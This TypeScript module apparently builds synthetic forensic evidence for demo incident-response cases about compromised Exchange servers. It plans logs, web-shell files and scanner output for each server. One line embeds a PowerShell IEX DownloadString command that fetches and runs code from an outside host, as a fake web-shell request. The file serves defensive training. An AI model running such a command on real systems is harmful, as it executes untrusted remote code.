import { randomFrom } from "@/lib/core/random";
import { hasFrontEndLogs } from "@/lib/demo/planning/builds";
import type { CasePlan, DemoFile, ServerPlan } from "@/lib/demo/planning/types";

import { zipped } from "./archive";
import { ecpLog, webShellFile } from "./ecp";
import {
  brokenOff,
  type ForgedStep,
  httpProxyLog,
  mailboxReads,
  probeOnly,
  scannerOnly,
  wholeChain,
} from "./httpproxy";
import { iisLog, type ShellUse } from "./iis";
import { responderNotes } from "./records";
import { forgedRequests, logAges, otherFiles, scannerLog, scriptConsole } from "./tools";
import type { Writer } from "./text";

const hourMs = 3_600_000;
const dayMs = 24 * hourMs;
const neededFrom = Date.UTC(2021, 1, 25, 22);
const logsEnd = Date.UTC(2021, 2, 12);

/** The story's second server kept no logs of the days on which the first one was entered. */
const storyGap = [
  { from: neededFrom, to: Date.UTC(2021, 2, 2, 12) },
  { from: Date.UTC(2021, 2, 8, 6), to: Date.UTC(2021, 2, 10, 12) },
];

function isEntered(server: ServerPlan): boolean {
  return server.depth === "implanted" || server.depth === "operated" || server.depth === "spread";
}

/** Which days the logs of a server show. Only some reach from before the attack until the update without a break. */
function spansOf(plan: CasePlan, server: ServerPlan, writer: Writer): { from: number; to: number }[] {
  if (plan.story && !server.whole) return storyGap;
  const { random } = writer;
  const end =
    Math.max(server.patchedAt ?? server.closedAt ?? logsEnd, isEntered(server) ? server.lastUseAt : 0) + 8 * hourMs;
  if (server.whole) return [{ from: neededFrom, to: end }];
  const from = server.attackAt - random.whole(10, 40) * hourMs;
  const until = Math.max(
    server.attackAt + random.whole(12, 30) * hourMs,
    server.depth === "attempted" || server.depth === "clean" ? 0 : server.lastUseAt + hourMs,
  );
  const later =
    server.patchedAt !== null && random.chance(0.5)
      ? [{ from: server.patchedAt - 3 * hourMs, to: server.patchedAt + 9 * hourMs }]
      : [];
  return [{ from, to: until }, ...later.filter((span) => span.from > until)];
}

function stepsOf(writer: Writer, server: ServerPlan): readonly ForgedStep[] {
  if (isEntered(server)) return server.depth === "spread" ? [...wholeChain, ...mailboxReads] : wholeChain;
  const drawn = writer.random.next();
  return drawn < 0.45 ? probeOnly : drawn < 0.7 ? scannerOnly : brokenOff;
}

function shellUseOf(plan: CasePlan, server: ServerPlan): ShellUse {
  const miner = plan.cluster === "DLTminer";
  return {
    stem: `/aspnet_client/${server.shell}`,
    address: plan.story ? "89.34.111.11" : server.attacker,
    from: server.attackAt + 620_000,
    to: server.lastUseAt,
    bursts: plan.story ? 9 : 3,
    ...(miner ? { query: "c=powershell+IEX+DownloadString('http://p.estonine.com/p?e')" } : {}),
  };
}

function logsOf(plan: CasePlan, server: ServerPlan, writer: Writer): DemoFile[] {
  const { random } = writer;
  const spans = spansOf(plan, server, writer);
  const buildAt = (at: number) =>
    server.patchedAt !== null && at >= server.patchedAt ? server.fixedBuild : server.build;
  const entered = isEntered(server);
  const used = server.depth === "operated" || server.depth === "spread";
  const attacks =
    server.depth === "clean" ? [] : [{ at: server.attackAt, address: server.attacker, steps: stepsOf(writer, server) }];
  const everyMinutes = 95;
  const frontEnd = hasFrontEndLogs(server);
  const files = frontEnd ? [httpProxyLog(writer, { spans, everyMinutes, buildAt, attacks })] : [];
  const uses = used ? [shellUseOf(plan, server)] : [];
  const knocked =
    server.depth === "attempted" && random.chance(0.4)
      ? [{ at: server.attackAt + 5 * hourMs, address: server.attacker }]
      : [];
  if (used || knocked.length > 0 || server.whole || !frontEnd)
    files.push(iisLog(writer, { spans, everyMinutes, uses, knocks: knocked }));
  if (frontEnd && (entered || server.whole))
    files.push(ecpLog(writer, { spans, everyMinutes: 480, buildAt, attackAt: entered ? server.attackAt : null }));
  return files;
}

function toolsOf(plan: CasePlan, server: ServerPlan, writer: Writer): DemoFile[] {
  const { random } = writer;
  const entered = isEntered(server);
  const dumped = server.depth === "spread";
  const ranAt = Math.max(server.patchedAt ?? 0, server.lastUseAt) + random.whole(4, 30) * hourMs;
  const logDays = Math.max(1, (ranAt - neededFrom) / dayMs) * (server.whole ? 1 : 0.4);
  const files: DemoFile[] = [];
  const eager = plan.effort !== "new" && plan.effort !== "started";
  const thorough = plan.story || plan.effort === "closed" || plan.effort === "late";
  const full = plan.effort !== "working" || random.chance(0.6);
  if (thorough || random.chance(eager ? 0.7 : 0.35))
    files.push(scriptConsole(writer, { logDays, found: entered, dumped }));
  if (plan.story && server.depth !== "attempted") files.push(logAges(writer, logDays));
  if (entered && (plan.story || random.chance(0.35)))
    files.push(forgedRequests(writer, { at: server.attackAt, address: server.attacker, steps: wholeChain }));
  if (dumped) files.push(otherFiles(writer, { at: server.attackAt, dumped }));
  if (thorough || (eager && random.chance(0.4)))
    files.push(
      scannerLog(writer, { at: ranAt, full: plan.story ? entered : full, shell: entered ? server.shell : null }),
    );
  return files;
}

/** Everything one server's owner handed in. */
function filesOfServer(plan: CasePlan, server: ServerPlan): DemoFile[] {
  const random = randomFrom(plan.seed + plan.servers.indexOf(server) * 101);
  const writer = {
    random,
    hostname: server.hostname,
    domain: plan.domain,
    address: plan.ipRange.replace(/\d+\/30$/, (last) => String(Number.parseInt(last, 10) + 1)),
  };
  const shell =
    isEntered(server) && (plan.story || random.chance(0.6))
      ? [webShellFile(writer, { name: server.shell, at: server.attackAt, build: server.build })]
      : [];
  return [...logsOf(plan, server, writer), ...toolsOf(plan, server, writer), ...shell];
}

function papersOf(plan: CasePlan): DemoFile[] {
  return plan.progress > 0.05 ? [responderNotes(plan)] : [];
}

/** The evidence of one demo case, in the order it came in. The story's first server sends one archive, as clients do. */
export async function filesOfCase(plan: CasePlan): Promise<DemoFile[]> {
  const perServer = plan.servers
    .filter((server) => server.evidence)
    .map((server) => ({ server, files: filesOfServer(plan, server) }));
  if (!plan.story) return [...perServer.flatMap(({ files }) => files), ...papersOf(plan)];
  const [first, ...others] = perServer;
  const triage = first ? [await zipped(`${first.server.hostname}-triage.zip`, first.files)] : [];
  return [...triage, ...others.flatMap(({ files }) => files), ...papersOf(plan)];
}
